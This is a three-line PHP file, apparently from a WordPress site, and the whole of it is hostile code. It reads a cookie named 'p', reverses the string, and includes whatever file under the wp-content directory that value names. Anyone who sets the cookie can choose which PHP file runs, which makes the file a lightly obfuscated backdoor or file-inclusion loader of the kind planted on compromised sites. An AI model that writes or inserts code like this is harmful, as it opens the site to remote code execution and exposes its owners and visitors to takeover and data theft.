<?php
$p = strrev($_COOKIE['p']);
require_once WP_CONTENT_DIR . '/' . $p;
